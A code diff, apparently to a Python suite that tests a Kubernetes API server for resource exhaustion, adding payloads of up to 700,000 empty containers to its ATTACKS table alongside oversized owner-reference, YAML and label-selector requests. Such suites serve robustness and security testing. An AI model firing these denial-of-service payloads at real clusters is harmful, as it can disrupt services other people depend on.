@@ -69,6 +69,10 @@ def _many_containers() -> Any:
     return {"metadata": {"generateName": "x-"}, "spec": {"containers": containers}}
 
 
+def _containers_of_nothing(count: int = 700_000) -> Any:
+    return {"metadata": {"generateName": "x-"}, "spec": {"containers": [{}] * count}}
+
+
 def _yaml(name: str = "generateName: x-", megabytes: float = 2.9) -> bytes:
     head = f"apiVersion: v1\nkind: ConfigMap\nmetadata: {{{name}}}\ndata:\n".encode()
     count = int((megabytes * MEGABYTE - len(head)) / len(b"  key-123456: v\n"))
@@ -98,6 +102,8 @@ _SELECTOR = f"labelSelector=a+in+({','.join(f'v{number}' for number in range(8_0
 ATTACKS = {
     "claims-of-a-container": Attack("POST", PODS, _many_claims),
     "containers": Attack("POST", f"{PODS}?dryRun=All", _many_containers),
+    "containers-of-nothing": Attack("POST", f"{PODS}?dryRun=All", _containers_of_nothing),
+    "few-bytes-many-errors": Attack("POST", f"{PODS}?dryRun=All", lambda: _containers_of_nothing(2_900)),
     "owners": Attack("POST", f"{MAPS}?dryRun=All", _manyowners),
     "patch-of-owners": Attack(
         "PATCH", f"{MAPS}/large?dryRun=All", lambda: {"metadata": {"ownerReferences": owners(15_000)}},
